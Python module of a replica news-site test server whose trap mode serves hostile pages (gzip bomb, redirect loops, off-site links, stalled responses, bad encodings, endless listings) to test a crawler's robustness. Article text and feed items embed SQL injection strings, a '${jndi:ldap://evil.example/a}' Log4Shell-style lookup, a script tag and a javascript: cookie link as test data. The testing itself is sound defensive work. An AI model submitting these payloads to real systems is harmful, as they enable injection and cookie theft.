"""Trap mode of the replica (`ReplicaConfig(traps=True)`, `replica serve --traps`): the same site, plus links to
misbehaving URLs, and the catalogue of those traps with the outcome a well-behaved crawler should produce.

The traps hang off the English (www.) edition. Article-like ones sit under /world/2026/11/19/trap-<name>/ (and one
under the impossible date /world/2026/02/30/), so that a crawler recognising permalinks really tries them; they are
linked from the home page, the World listing, the trap sitemap (listed in /wp-sitemap.xml) and /feed/. robots.txt gains
a Disallow: line and an off-site Sitemap: line. With ReplicaConfig.sitemaps="none" the trap sitemaps are gone too and
robots.txt names no sitemap. The `endless-listing` trap adds an archive <nav> of month links and a ?calendar= widget to
the decorated listings (replica.endless). Every request the server receives is logged (TrapSite.log), so tests can
prove a URL was never requested, or count how many were.

API: `TRAPS` maps each trap's name to a Trap (its paths, linked off-site URLs, URLs never to be requested, the expected
outcome, the crawler settings it assumes, and for article traps the title and paragraphs to store). A trap-mode
Replica's `traps` attribute is a TrapSite: `.urls(name, port)`, `.forbidden_urls(name, port)`, `.hits(path, host)`,
`.requests(name)` (every request for one trap's URLs) and `.log` (every request received); it is None when trap mode
is off. `ReplicaConfig(trap_names=(...))` (`replica serve --traps NAME,NAME`) serves only some traps.

Block mode (`ReplicaConfig(block_user_agent="EUReporterArchiveBot")`, `replica serve --block-ua`) is separate: every
response to a User-Agent containing that string is 403, as the live site's WAF did to a link checker, or with
`block_with="challenge"` (`--block-with challenge`) a 200 Cloudflare "Just a moment..." page.
"""

from __future__ import annotations

import re
import threading
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING
from urllib.parse import parse_qs

from replica import endless, hostile, media
from replica.feeds import robots_txt, urlset
from replica.interstitials import challenge_page, consent_wall_page
from replica.listing import not_found_page
from replica.routes import HTML, Page

if TYPE_CHECKING:
    from collections.abc import Mapping
    from datetime import datetime

    from replica.site import Replica, Response
    from replica.theme import Edition

TRAP_DAY = "/world/2026/11/19/"
RETRY_AFTER_SECONDS = 2
RETRY_AFTER_FAILURES = 2
"""The first two requests for the Retry-After trap get 503 (RETRY_TIMES=2 would allow three attempts)."""
SLOW_HEADERS_SECONDS = 5.0
STALL_SECONDS = 30.0
LOOP_MAX = 100
"""The self-referencing sitemap index also lists itself with ?loop=N+1, up to this N."""
XML = "application/xml; charset=UTF-8"
RSS = "application/rss+xml; charset=UTF-8"
INTERSTITIAL_REQUESTS = 1
"""The challenge, consent-wall and soft-404 traps answer their stand-in page to the first request of their URL in
this server process, the article afterwards: a second crawl against the same server gets the article."""
IMPOSSIBLE_DATE_PATH = "/world/2026/02/30/trap-impossible-date/"
IMPOSSIBLE_DATE_PUBLISHED = "2026-03-02"
"""What PHP's mktime() makes of 30 February 2026, the date the page itself shows."""
BLOCK_RESPONSES = ("403", "challenge")


def trap_path(slug: str) -> str:
    return f"{TRAP_DAY}trap-{slug}/"


def equivalent_spellings(domain: str, port: int | None, path: str) -> list[str]:
    """Other spellings of http://www.DOMAIN[:PORT]PATH that name the same page: the explicit default port (only when
    the server is on port 80), an upper-case host, "/./" and "//" in the path, a tracking query, a fragment, and
    percent-encoded unreserved characters (RFC 3986 §6.2.2.2)."""
    www = _www(domain, port)
    upper = "http://" + www.removeprefix("http://").upper()
    first, rest = path[1:].split("/", 1)
    slug_start = path.rstrip("/").rsplit("/", 1)[0] + "/"
    slug = path[len(slug_start) : -1]
    encoded = f"%{ord(slug[0]):02X}{slug[1:].replace('-', '%2D', 1)}"
    spellings = [
        upper + path,
        f"{www}/{first}/./{rest}",
        f"{www}/{first}//{rest}",
        f"{www}{path}?utm_source=x",
        f"{www}{path}#comments",
        f"{www}{slug_start}{encoded}/",
    ]
    if port in (None, 80):
        spellings.insert(0, f"http://www.{domain}:80{path}")
    return spellings


@dataclass(frozen=True, slots=True)
class Trap:
    """One trap: where it is, who links to it, and what a correct crawler does with it.

    URL templates (`offsite`, `forbidden`) contain `{www}` (the www. edition's origin with port), `{port}` (":PORT"
    or "") and `{domain}`; Trap.urls() and Trap.forbidden_urls() fill them in.
    """

    name: str
    paths: tuple[str, ...]
    """Paths on the www. host that the trap serves (and, for article-like traps, that pages link to)."""
    outcome: str
    """The expected crawler behaviour, in one line."""
    linked_from: tuple[str, ...] = ("home", "category", "sitemap", "feed")
    offsite: tuple[str, ...] = ()
    """Off-site URL templates the pages link to."""
    forbidden: tuple[str, ...] = ()
    """URL templates a correct crawler never requests (robots.txt, off-site, redirect targets)."""
    settings: tuple[str, ...] = ()
    """Crawler settings the outcome assumes, as `-s NAME=VALUE` pairs."""
    title: str = ""
    """For article traps: the headline a correct crawler stores."""
    paragraphs: tuple[str, ...] = ()
    """For article traps: the body paragraphs a correct crawler stores, in order."""
    spellings: bool = False
    """Pages also link to the first path in equivalent spellings (equivalent_spellings)."""
    pattern: str = ""
    """A regular expression for the request targets (path and query) that belong to this trap, when `paths` does
    not list them all (TrapSite.requests)."""

    def urls(self, domain: str = "eureporter.test", port: int | None = None) -> list[str]:
        """Absolute URLs of `paths` (on the www. host), of the `offsite` links and of the equivalent spellings."""
        www = _www(domain, port)
        urls = [www + path for path in self.paths] + [_fill(t, domain, port) for t in self.offsite]
        if self.spellings:
            urls += equivalent_spellings(domain, port, self.paths[0])
        return urls

    def matches(self, target: str) -> bool:
        """Whether a request target (as received: path, query) is one of this trap's URLs."""
        from replica.site import normalize_path

        raw_path, _, query = target.partition("#")[0].partition("?")
        path = normalize_path(raw_path)
        if self.pattern:
            return re.search(self.pattern, path + ("?" + query if query else "")) is not None
        return path in self.paths

    def forbidden_urls(self, domain: str = "eureporter.test", port: int | None = None) -> list[str]:
        return [_fill(template, domain, port) for template in self.forbidden]

    @property
    def is_article(self) -> bool:
        return bool(self.title)


def _suffix(port: int | None) -> str:
    return f":{port}" if port and port != 80 else ""


def _www(domain: str, port: int | None) -> str:
    return f"http://www.{domain}" + _suffix(port)


def _fill(template: str, domain: str, port: int | None) -> str:
    return template.format(www=_www(domain, port), port=_suffix(port), domain=domain)


_SQL_TITLE = (
    "O'Brien's \"EU\" deal'; DROP TABLE articles; -- \" OR 1=1 \\ 100% off_under_score 🇪🇺🔥 מה נשמע مرحبا بالعالم"
)
_SQL_PARAGRAPHS = (
    "The minister's reply was: Robert'); DROP TABLE articles; -- and nobody in the chamber laughed.",
    "A search for \" OR 1=1 -- and ' OR ''=' returned every row, said the 100% certain auditor.",
    'Backslashes \\ and \\" escapes, C:\\Users\\eu\\ and LIKE patterns such as %_% or 50%_off matched too.',
    "Emoji 🇪🇺🔥😀 and right-to-left text, مرحبا بالعالم and שלום עולם, must survive the round trip intact.",
    "Tom & Jerry wrote ${jndi:ldap://evil.example/a}, {{7*7}} and <script>alert(1)</script> as plain text.",
)

TRAPS: dict[str, Trap] = {
    trap.name: trap
    for trap in (
        Trap(
            "robots-disallowed",
            (trap_path("robots-disallowed"),),
            "robots.txt disallows it: never requested",
            forbidden=("{www}" + trap_path("robots-disallowed"),),
            title="This article is disallowed by robots.txt",
            paragraphs=("A polite crawler never fetches this page, although every discovery source links to it.",),
        ),
        Trap(
            "offsite",
            (),
            "off-site links in pages, the sitemaps, the feed and robots.txt: never requested, counted",
            linked_from=("home", "category", "sitemap", "feed", "robots.txt", "sitemap index"),
            offsite=(
                "http://evil.example" + trap_path("offsite"),
                "http://www.{domain}.evil.example{port}" + trap_path("offsite-lookalike"),
                "http://www.eutoday.test{port}" + trap_path("offsite-sister"),
                "http://shop.{domain}{port}" + trap_path("offsite-subdomain"),
            ),
            forbidden=(
                "http://evil.example" + trap_path("offsite"),
                "http://www.{domain}.evil.example{port}" + trap_path("offsite-lookalike"),
                "http://www.eutoday.test{port}" + trap_path("offsite-sister"),
                "http://shop.{domain}{port}" + trap_path("offsite-subdomain"),
                "http://evil.example/wp-sitemap.xml",
                "http://evil.example/wp-sitemap-posts-post-1.xml",
                "http://evil.example" + trap_path("feed-offsite"),
            ),
        ),
        Trap(
            "gzip-bomb",
            (trap_path("gzip-bomb"),),
            f"Content-Encoding: gzip inflating to {hostile.BOMB_INFLATED_BYTES} bytes: the compressed original is "
            "archived or the response skipped with a log line; counted; the crawl continues",
        ),
        Trap(
            "oversized",
            (trap_path("oversized"),),
            f"{hostile.OVERSIZED_BYTES} bytes uncompressed: over DOWNLOAD_MAXSIZE=2000000, skipped with a log line "
            "and counted (a normal article under larger limits)",
            settings=("DOWNLOAD_MAXSIZE=2000000",),
            title="An oversized page with a short article",
            paragraphs=("Megabytes of padding follow this paragraph in an HTML comment.",),
        ),
        Trap(
            "redirect-loop",
            (trap_path("redirect-loop-a"), trap_path("redirect-loop-b")),
            "A -> B -> A (302): stops, logged, counted; nothing stored",
        ),
        Trap(
            "redirect-offsite",
            (trap_path("redirect-offsite"),),
            "301 to evil.example: the redirect is not followed, logged, counted",
            forbidden=("http://evil.example" + trap_path("redirect-offsite"),),
        ),
        Trap(
            "redirect-subdomain",
            (trap_path("redirect-subdomain"),),
            "301 to shop.DOMAIN (inside allowed_domains, outside the site's editions): not followed, counted",
            forbidden=("http://shop.{domain}{port}" + trap_path("redirect-subdomain"),),
        ),
        Trap(
            "retry-after",
            (trap_path("retry-after"),),
            f"503 with Retry-After: {RETRY_AFTER_SECONDS} for the first {RETRY_AFTER_FAILURES} requests, then 200: "
            f"each retry waits at least {RETRY_AFTER_SECONDS} s, then the article is stored",
            title="Retry-After was honoured before this article appeared",
            paragraphs=(
                "The server asked for patience twice with 503 Service Unavailable and a Retry-After header.",
                "A crawler that waited as asked stores this paragraph on its third attempt.",
            ),
        ),
        Trap(
            "slow-headers",
            (trap_path("slow-headers"),),
            f"status line after {SLOW_HEADERS_SECONDS:g} s: times out under DOWNLOAD_TIMEOUT=2, counted, the crawl "
            "continues",
            settings=("DOWNLOAD_TIMEOUT=2",),
        ),
        Trap(
            "stalled-body",
            (trap_path("stalled-body"),),
            f"headers and half the body, then {STALL_SECONDS:g} s of silence: times out under DOWNLOAD_TIMEOUT=2, "
            "counted, crawl continues",
            settings=("DOWNLOAD_TIMEOUT=2",),
        ),
        Trap(
            "cp1252-undeclared",
            (trap_path("cp1252-undeclared"),),
            "windows-1252 bytes, no charset in HTTP or HTML: stored with the right characters",
            title="Café owners in Zürich pay €5 more: “unfair”, says the mayor’s office",
            paragraphs=(
                "The café association’s spokeswoman, Renée Müller, called the €5 levy “a tax on breakfast”.",
                "Über 200 cafés signed the petition; naïve hopes of a quick reversal were dashed — for now.",
                "Prices rose by 3 ‰ in a year… and the “Grüezi” sign in the window now costs extra.",
            ),
        ),
        Trap(
            "cp1252-mislabelled",
            (trap_path("cp1252-mislabelled"),),
            "windows-1252 bytes, HTTP and <meta> both say utf-8: stored with the right characters",
            title="Brüssel’s “grand café” débâcle costs €12 million",
            paragraphs=(
                "Auditors found that the “grand café” in the Berlaymont cost €12 million, not €1.2 million.",
                "The contractor’s invoice, written in Dutch and Français, listed “crème brûlée” twice.",
            ),
        ),
        Trap("empty", (trap_path("empty"),), "200, text/html, Content-Length: 0: counted, no row, no crash"),
        Trap("pdf", (trap_path("pdf"),), "application/pdf behind an article URL: counted, no row, no crash"),
        Trap("jpeg", (trap_path("jpeg"),), "image/jpeg behind an article URL: counted, no row, no crash"),
        Trap(
            "broken-markup",
            (trap_path("broken-markup"),),
            "NUL bytes, unclosed tags, no end of document: stored without NULs, paragraphs intact",
            title="Broken markup still carries a readable article",
            paragraphs=(
                "Member states agreed on Tuesday to extend the programme until 2030 at the latest.",
                "The Commission said the decision was final, but several capitals disagreed openly.",
                "Negotiations will resume in January, officials in Brussels said on condition of anonymity.",
            ),
        ),
        Trap(
            "sql-metacharacters",
            (trap_path("sql-metacharacters"),),
            "quotes, SQL and LIKE metacharacters, backslashes, emoji, RTL text: title and text stored verbatim",
            title=_SQL_TITLE,
            paragraphs=_SQL_PARAGRAPHS,
        ),
        Trap(
            "sitemap-truncated",
            ("/wp-sitemap-trap-truncated-1.xml",),
            "urlset cut off mid-<loc>: counted as invalid, no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-wrong-namespace",
            ("/wp-sitemap-trap-wrongns-1.xml",),
            "urlset in the XHTML namespace: no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-huge",
            ("/wp-sitemap-trap-huge-1.xml",),
            f"{hostile.HUGE_SITEMAP_URLS} in-scope entries (~6 MB), a few real articles, the rest non-article "
            "pages: parsed in bounded time, no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-loop",
            ("/wp-sitemap-trap-loop.xml",),
            f"a sitemap index listing itself, and itself with ?loop=N+1 (up to {LOOP_MAX}): bounded, counted",
            linked_from=("sitemap index",),
        ),
        Trap(
            "sitemap-html",
            ("/wp-sitemap-trap-html-1.xml",),
            "an HTML page (text/html) where a sitemap should be: counted as invalid, no crash",
            linked_from=("sitemap index",),
        ),
        Trap(
            "feed-garbage",
            ("/feed/",),
            "items without <link>, with javascript:/mailto:/blank/10 KB/off-site links, an undefined entity: no "
            "crash, off-site counted, nothing but http(s) requested",
            linked_from=(),
            forbidden=("http://evil.example" + trap_path("feed-offsite"),),
        ),
        Trap(
            "challenge",
            (trap_path("challenge"),),
            f'200 with a Cloudflare-style "Just a moment..." browser check for the first {INTERSTITIAL_REQUESTS} '
            "request(s) of the URL, then the article: the check is archived, never stored as an article, counted, and "
            "the next run stores the article",
            title="A browser check stood in front of this article",
            paragraphs=(
                "The first visitor of this page was asked to wait while a protection service checked the browser.",
                "A crawler that recognised the check, kept it out of the dataset and came back later stores this text.",
            ),
        ),
        Trap(
            "consent-wall",
            (trap_path("consent-wall"),),
            f'200 with the site\'s chrome and a full-page consent wall ("Before you continue", accept and reject '
            f"buttons, no article) for the first {INTERSTITIAL_REQUESTS} request(s), then the article: the wall is "
            "archived, never stored as an article, counted, and the next run stores the article",
            title="A consent wall hid this article on the first visit",
            paragraphs=(
                "Cookie walls that withhold the page until a choice is made are common on European news sites.",
                "The article behind the wall carries this paragraph, which a careful crawler stores on a later run.",
            ),
        ),
        Trap(
            "soft-404",
            (trap_path("soft-404"),),
            f'the theme\'s "Page not found" page with status 200 for the first {INTERSTITIAL_REQUESTS} request(s), '
            "then the article: the soft 404 is archived, never stored as an article, counted, and the next run "
            "stores the article",
            title="This article once answered as a page not found",
            paragraphs=(
                "A caching layer briefly served the theme's not-found page for this address, with status 200 OK.",
                "Once the cache expired the article came back with this paragraph, ready to be archived.",
            ),
        ),
        Trap(
            "impossible-date",
            (IMPOSSIBLE_DATE_PATH,),
            "a permalink dated 2026/02/30 (the page says 2 March 2026): no exception anywhere (incremental judgement, "
            "listing parser, --since); stored with the page's own dates, or skipped and counted; later runs still find "
            "the new articles",
            title="An article filed under the thirtieth of February",
            paragraphs=(
                "Permalinks are built from whatever date the editor typed, and this one said the 30th of February.",
                "PHP turned that date into the second of March, which is the date the page itself displays.",
            ),
        ),
        Trap(
            "equivalent-urls",
            (trap_path("equivalent-urls"),),
            "one article linked as itself and in equivalent spellings (http://www.DOMAIN:80/ when served on port 80, "
            "an upper-case host, /./ and // in the path, ?utm_source=x, a #fragment, percent-encoded letters): "
            "fetched and stored once",
            title="One article under many spellings of its address",
            paragraphs=(
                "Links to this article differ in the case of the host name, in dots and slashes and in their encoding.",
                "Every one of them names the same page, so the archive holds this article exactly once.",
            ),
            spellings=True,
        ),
        Trap(
            "endless-listing",
            (endless.ENDLESS_CATEGORY, f"{endless.EVENTS}2026/11/"),
            "a category whose /page/N/ never ends (old articles again and again), an events calendar with prev/next "
            "months forever, ?calendar=YYYY-MM links on the decorated listings, month archives /YYYY/MM/ in a <nav> "
            "back to year 1: bounded by the crawler's own limits, each counted; every article still stored once",
            linked_from=("home", "category"),
            pattern=r"^(/category/trap-endless/|/events/|/\d{4}/\d{2}/$)|[?&]calendar=",
        ),
    )
}

_DECORATED_LISTINGS = ("/", "/world/", "/category/world/")
_INTERSTITIALS = ("challenge", "consent-wall", "soft-404")


@dataclass(frozen=True, slots=True)
class Hit:
    """One request the trap-mode server received."""

    method: str
    host: str
    target: str
    user_agent: str
    at: float
    """time.time() when it arrived."""


@dataclass
class TrapSite:
    """The trap-mode layer in front of a Replica: answers trap URLs, decorates the pages that link to them, logs."""

    site: Replica
    names: tuple[str, ...] = ()
    """The traps served (empty: every trap of TRAPS)."""
    log: list[Hit] = field(default_factory=list)
    _counts: dict[str, int] = field(default_factory=dict)
    _lock: threading.Lock = field(default_factory=threading.Lock)

    def __post_init__(self) -> None:
        self.names = tuple(name for name in TRAPS if name in (self.names or TRAPS))
        # Traps offered by the home page, the World listing, the trap sitemap and the feed.
        self._linked = [name for name in self.names if "home" in TRAPS[name].linked_from]
        self._sitemaps = [p for name in self.names if name.startswith("sitemap-") for p in TRAPS[name].paths]

    # --- API for tests ----------------------------------------------------------------------------------------------
    @staticmethod
    def catalogue() -> dict[str, Trap]:
        return dict(TRAPS)

    def urls(self, name: str, port: int | None = None) -> list[str]:
        return TRAPS[name].urls(self.site.domain, port)

    def forbidden_urls(self, name: str, port: int | None = None) -> list[str]:
        return TRAPS[name].forbidden_urls(self.site.domain, port)

    def enabled(self, name: str) -> bool:
        return name in self.names

    def requests(self, name: str) -> list[Hit]:
        """Requests received for one trap's URLs (Trap.matches), on any host."""
        trap = TRAPS[name]
        return [hit for hit in list(self.log) if trap.matches(hit.target)]

    def hits(self, path: str, host: str | None = None) -> list[Hit]:
        """Requests received for a path (query string ignored), optionally on one host name (without port)."""
        return [
            hit
            for hit in list(self.log)
            if hit.target.partition("?")[0] == path and (host is None or hit.host.partition(":")[0] == host)
        ]

    # --- HTTP -------------------------------------------------------------------------------------------------------
    def handle(self, method: str, host: str, target: str, request: Mapping[str, str]) -> Response | None:
        """The response to a trap URL or a decorated page, or None to let the normal site answer."""
        from replica.site import normalize_path, port_suffix

        self.log.append(Hit(method.upper(), host.strip().lower(), target, request.get("user-agent", ""), time.time()))
        hostname, _, port = host.strip().lower().partition(":")
        if hostname != f"www.{self.site.domain}" or method.upper() not in ("GET", "HEAD"):
            return None
        suffix = port_suffix(port)
        if target.startswith(("http://", "https://")):
            target = "/" + target.split("/", 3)[3] if target.count("/") >= 3 else "/"
        raw_path, _, query = target.partition("#")[0].partition("?")
        path = normalize_path(raw_path)
        ed = self.site._edition("en", suffix)
        answer = self._answer(method.upper(), ed, suffix, path, query)
        if answer is None or isinstance(answer, tuple):
            return answer
        from replica.site import _Entry

        return self.site._respond(method.upper(), _Entry(answer), dict(request), path)

    def _answer(self, method: str, ed: Edition, suffix: str, path: str, query: str) -> Page | Response | None:
        www = ed.base
        sitemaps = self.site.config.sitemaps != "none"
        if path == "/robots.txt":
            disallow = (trap_path("robots-disallowed"),) if self.enabled("robots-disallowed") else ()
            offsite = ("http://evil.example/wp-sitemap.xml",) if self.enabled("offsite") else ()
            lines = (f"{www}/wp-sitemap.xml", *offsite)
            robots = robots_txt(www, disallow=disallow, sitemaps=lines if sitemaps else ())
            return Page(200, "text/plain; charset=UTF-8", robots.encode())
        if path == "/wp-sitemap.xml" and sitemaps:
            normal = self.site.router.route(ed, path, None, None).body
            extra = [www + p for p in self._sitemaps] + [www + "/wp-sitemap-trap-articles-1.xml"]
            if self.enabled("offsite"):
                extra.append("http://evil.example/wp-sitemap-posts-post-1.xml")
            entries = b"".join(b"<sitemap><loc>%s</loc></sitemap>" % url.encode() for url in extra)
            return Page(200, XML, hostile.insert_before_last(normal, b"</sitemapindex>", entries))
        if path == "/feed/":
            page = self.site.router.route(ed, path, None, None)
            items = hostile.feed_items(self._feed_items(ed, suffix)).encode()
            return Page(200, RSS, hostile.insert_before_last(page.body, b"</channel>", items), chunked=True, feed=True)
        if path in _DECORATED_LISTINGS:
            return self._decorated(ed, suffix, path, query)
        if path.startswith("/wp-sitemap-trap-") and sitemaps:
            return self._sitemap(ed, suffix, path, query)
        if path.startswith(TRAP_DAY + "trap-") or path == IMPOSSIBLE_DATE_PATH:
            return self._article_trap(method, ed, suffix, path)
        if self.enabled("endless-listing"):
            return self._endless(ed, path)
        return None

    # --- decorations ------------------------------------------------------------------------------------------------
    def _decorated(self, ed: Edition, suffix: str, path: str, query: str) -> Page | None:
        """The home page or World listing with the trap links (and, with endless-listing, the archive <nav> and a
        calendar widget for ?calendar=YYYY-MM); other queries (/?s=, /?p=) stay the normal site's."""
        endless_on = self.enabled("endless-listing")
        month = (self.site.corpus.now.year, self.site.corpus.now.month)
        if query:
            values = parse_qs(query, keep_blank_values=True)
            match = endless.CALENDAR_VALUE.match(values.get(endless.CALENDAR_PARAMETER, [""])[0])
            asked = endless.month_of(*match.groups()) if match else None
            if not endless_on or set(values) != {endless.CALENDAR_PARAMETER} or asked is None:
                return None
            month = asked
        page = self.site.router.route(ed, path, None, None)
        if page.status != 200 or page.location is not None:
            return page
        block = hostile.link_block(self._links(ed, suffix, "home"))
        if endless_on:
            block += (endless.archive_nav(ed, *month) + endless.calendar_widget(ed, path, *month)).encode()
        return Page(200, page.content_type, hostile.insert_before_last(page.body, b"</body>", block), chunked=True)

    def _links(self, ed: Edition, suffix: str, where: str) -> list[tuple[str, str]]:
        """(URL, title) of every enabled trap linked from `where` (a Trap.linked_from entry)."""
        links: list[tuple[str, str]] = []
        for name in self._linked:
            trap = TRAPS[name]
            if where not in trap.linked_from:
                continue
            title = trap.title or f"Trap: {name.replace('-', ' ')}"
            links.extend((url, title) for url in trap.urls(self.site.domain, _port(suffix)))
        return links

    def _feed_items(self, ed: Edition, suffix: str) -> list[tuple[str, str | None]]:
        items: list[tuple[str, str | None]] = [(title, url) for url, title in self._links(ed, suffix, "feed")]
        if not self.enabled("feed-garbage"):
            return items
        items += [
            ("An item without a link", None),
            ("A javascript: link", "javascript:alert(document.cookie)"),
            ("A mailto: link", "mailto:newsroom@eureporter.co?subject=hi"),
            ("A blank link", "   \n\t  "),
            ("A ten-kilobyte link", ed.base + "/world/2026/11/19/" + "x" * 10_000 + "/"),
            ("An off-site item", "http://evil.example" + trap_path("feed-offsite")),
            ("An undefined entity &nbsp; in XML", ed.base + trap_path("sql-metacharacters") + "&nbsp;"),
            ("A data: URL", "data:text/html,<h1>hi</h1>"),
        ]
        return items

    def _endless(self, ed: Edition, path: str) -> Page | None:
        router = self.site.router
        if path.startswith(endless.ENDLESS_CATEGORY):
            rest = path[len(endless.ENDLESS_CATEGORY) :]
            number = rest[len("page/") : -1] if rest.startswith("page/") and rest.endswith("/") else ""
            if rest and not number.isdigit():
                return None
            html = endless.endless_category(router, ed, max(1, int(number or 1)))
            return Page(200, HTML, html.encode(), chunked=True)
        for pattern, render in ((endless.EVENTS_MONTH, endless.events_page), (endless.MONTH_ARCHIVE, None)):
            match = pattern.match(path)
            month = endless.month_of(*match.groups()) if match else None
            if month is not None:
                if render is not None:
                    return Page(200, HTML, render(ed, *month).encode())
                return Page(200, HTML, endless.month_archive(router, ed, *month).encode(), chunked=True)
        return None

    def _sitemap(self, ed: Edition, suffix: str, path: str, query: str) -> Page | None:
        www = ed.base
        posts = self.site.corpus.posts
        lastmod = self.site.router.lastmod
        real = [(www + post.path, post.modified if lastmod else None) for post in posts[-3:]]
        if path == "/wp-sitemap-trap-articles-1.xml":
            entries: list[tuple[str, datetime | None]] = [(url, None) for url, _ in self._links(ed, suffix, "sitemap")]
            return Page(200, XML, urlset(entries).encode())
        if not any(path in TRAPS[name].paths for name in self.names if name.startswith("sitemap-")):
            return None
        if path == "/wp-sitemap-trap-truncated-1.xml":
            return Page(200, XML, hostile.truncated_sitemap(real))
        if path == "/wp-sitemap-trap-wrongns-1.xml":
            return Page(200, XML, hostile.wrong_namespace_sitemap(real))
        if path == "/wp-sitemap-trap-huge-1.xml":
            newest = self.site.corpus.last_modified if lastmod else None
            body = hostile.huge_sitemap(www, [url for url, _ in real], newest)
            return Page(200, XML, body)
        if path == "/wp-sitemap-trap-loop.xml":
            values = parse_qs(query).get("loop", ["1"])
            depth = int(values[0]) if values[0].isdigit() else 1
            locs = [www + path]
            if depth < LOOP_MAX:
                locs.append(f"{www}{path}?loop={depth + 1}")
            return Page(200, XML, hostile.sitemap_index(locs))
        if path == "/wp-sitemap-trap-html-1.xml":
            return Page(200, HTML, self.site.router.route(ed, "/", None, None).body)
        return None

    # --- article-like traps -----------------------------------------------------------------------------------------
    def _count(self, key: str) -> int:
        with self._lock:
            self._counts[key] = self._counts.get(key, 0) + 1
            return self._counts[key]

    def _article_trap(self, method: str, ed: Edition, suffix: str, path: str) -> Page | Response | None:
        name = "impossible-date" if path == IMPOSSIBLE_DATE_PATH else path[len(TRAP_DAY + "trap-") : -1]
        if not self.enabled(name.removesuffix("-a").removesuffix("-b")):
            return None
        www, common = ed.base, self.site._common()
        post_id = 900_000 + sorted(TRAPS).index(name) if name in TRAPS else 0
        trap = TRAPS.get(name)

        def article(charset: str | None = "UTF-8", published: str = hostile.TRAP_DATE) -> str:
            assert trap is not None
            return hostile.article_html(
                www, path, trap.title, trap.paragraphs, post_id=post_id, charset=charset, published=published
            )

        if name in _INTERSTITIALS:
            if self._count(f"{suffix}{path}") > INTERSTITIAL_REQUESTS:
                return Page(200, HTML, article().encode())
            if name == "challenge":
                return Page(200, HTML, challenge_page(f"www.{self.site.domain}", path))
            if name == "consent-wall":
                return Page(200, HTML, consent_wall_page(ed, path))
            return Page(200, HTML, not_found_page(ed, path).encode())
        if name == "impossible-date":
            return Page(200, HTML, article(published=IMPOSSIBLE_DATE_PUBLISHED).encode())
        if name == "equivalent-urls":
            return Page(200, HTML, article().encode())

        if name in ("redirect-loop-a", "redirect-loop-b"):
            other = trap_path("redirect-loop-b" if name.endswith("-a") else "redirect-loop-a")
            return _redirect(302, common, www + other)
        if name == "redirect-offsite":
            return _redirect(301, common, "http://evil.example" + path)
        if name == "redirect-subdomain":
            return _redirect(301, common, f"http://shop.{self.site.domain}{suffix}{path}")
        if trap is None or name in ("offsite",):
            return None
        if name == "robots-disallowed":
            return Page(200, HTML, article().encode())
        if name == "gzip-bomb":
            bomb = hostile.gzip_bomb()
            headers = [*common, ("Content-Type", HTML), ("Content-Encoding", "gzip"), ("Vary", "Accept-Encoding"),
                       ("Content-Length", str(len(bomb)))]  # fmt: skip
            return 200, headers, b"" if method == "HEAD" else bomb
        if name == "oversized":
            body = hostile.oversized_article(www, path, trap.title, trap.paragraphs, post_id=post_id)
            return Page(200, HTML, body, compressible=False)
        if name == "retry-after":
            if self._count(f"{suffix}{path}") <= RETRY_AFTER_FAILURES:
                body = hostile.error_page(503, "Service Temporarily Unavailable", "Please retry later.")
                headers = [*common, ("Retry-After", str(RETRY_AFTER_SECONDS)), ("Content-Type", HTML),
                           ("Content-Length", str(len(body)))]  # fmt: skip
                return 503, headers, b"" if method == "HEAD" else body
            return Page(200, HTML, article().encode())
        if name in ("slow-headers", "stalled-body"):
            page = hostile.article_html(www, path, f"Trap: {name}", ("Nobody should wait this long.",) * 40,
                                        post_id=post_id).encode()  # fmt: skip
            headers = [*common, ("Content-Type", HTML), ("Content-Length", str(len(page)))]
            if method == "HEAD":
                return 200, headers, b""
            if name == "slow-headers":
                return 200, headers, hostile.Paced(page, delay=SLOW_HEADERS_SECONDS)
            return 200, headers, hostile.Paced(page, stall_after=len(page) // 2, stall=STALL_SECONDS)
        if name == "cp1252-undeclared":
            body = hostile.cp1252_article(www, path, trap.title, trap.paragraphs, post_id=post_id, meta=None)
            return Page(200, "text/html", body)
        if name == "cp1252-mislabelled":
            body = hostile.cp1252_article(www, path, trap.title, trap.paragraphs, post_id=post_id, meta="utf-8")
            return Page(200, "text/html; charset=utf-8", body)
        if name == "empty":
            return Page(200, HTML, b"", compressible=False)
        if name == "pdf":
            return Page(200, "application/pdf", hostile.pdf_document(), compressible=False)
        if name == "jpeg":
            return Page(200, "image/jpeg", media.jpeg(path), compressible=False)
        if name == "broken-markup":
            body = hostile.broken_article_html(www, path, trap.title, trap.paragraphs, post_id=post_id)
            return Page(200, HTML, body)
        if name == "sql-metacharacters":
            return Page(200, HTML, article().encode())
        return None


def _port(suffix: str) -> int | None:
    return int(suffix[1:]) if suffix else None


def _redirect(status: int, common: list[tuple[str, str]], location: str) -> Response:
    return status, [*common, ("Location", location), ("Content-Type", HTML), ("Content-Length", "0")], b""


def blocked(common: list[tuple[str, str]], method: str, block_with: str = "403", host: str = "") -> Response:
    """What a WAF answers a blocked User-Agent on every URL: 403 with its own small page, or (`block_with`
    "challenge") a 200 "Just a moment..." browser check that never lets the client through."""
    if block_with == "challenge":
        status, body = 200, challenge_page(host.partition(":")[0] or "www", "/")
    else:
        status = 403
        body = hostile.error_page(403, "Forbidden", "Access denied: your browser or bot is not allowed on this site.")
    headers = [*common, ("Content-Type", HTML), ("Content-Length", str(len(body)))]
    return status, headers, b"" if method.upper() == "HEAD" else body
